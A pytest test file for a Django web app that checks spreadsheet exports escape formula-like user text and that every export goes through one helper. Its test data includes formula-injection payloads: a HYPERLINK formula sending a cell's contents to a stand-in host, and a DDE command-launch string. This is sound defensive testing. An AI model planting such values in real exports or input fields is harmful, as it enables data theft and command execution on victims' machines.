"""Spreadsheet exports write user text as text, never as a formula (issue #11, item 27)."""

import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = {
    "movement": '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
    "phase": "+84 909 000 000",
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "other": "-2+3",
}


def test_compliance_export_keeps_formula_like_text_as_text(staff_client, report_factory):
    movement = factories.MovementFactory(name=HOSTILE["movement"])
    phase = factories.PlanPhaseFactory(name=HOSTILE["phase"])
    report_factory(movement=movement, phase=phase, agency=factories.AgencyFactory(name=HOSTILE["agency"]))
    report_factory(movement=movement, phase=phase, agency=factories.AgencyFactory(name=HOSTILE["other"]))
    response = staff_client.get(reverse("agency:compliance.export"))
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert set(HOSTILE.values()) <= texts
    flagged = [cell for cell in cells if cell.value in HOSTILE.values()]
    assert flagged and all(cell.data_type == "s" and cell.quotePrefix for cell in flagged)


def test_every_export_goes_through_the_one_helper():
    """Only tayninh_thidua/lib/xlsx.py imports openpyxl: a new export cannot skip the escaping."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "node_modules/", "tests/")) or relative == "tayninh_thidua/lib/xlsx.py":
            continue
        if re.search(r"^\s*(from|import)\s+openpyxl", path.read_text(encoding="utf-8"), re.MULTILINE):
            offenders.append(relative)
    assert not offenders
